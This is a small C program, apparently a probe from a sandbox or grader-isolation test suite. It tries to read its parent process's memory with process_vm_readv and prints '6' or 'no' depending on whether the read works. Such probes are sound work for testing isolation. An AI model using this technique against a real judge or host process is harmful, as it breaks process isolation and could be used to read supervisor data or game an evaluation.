// Attack on stdin_stdout (probe): reads the memory of its parent.
#define _GNU_SOURCE
#include <stdio.h>
#include <sys/uio.h>
#include <unistd.h>
int main(void) {
  static char b[4096];
  struct iovec l = {b, sizeof b}, r = {(void *)0x400000, sizeof b};
  printf("%s\n", process_vm_readv(getppid(), &l, 1, &r, 1, 0) > 0 ? "6" : "no");
  return 0;
}
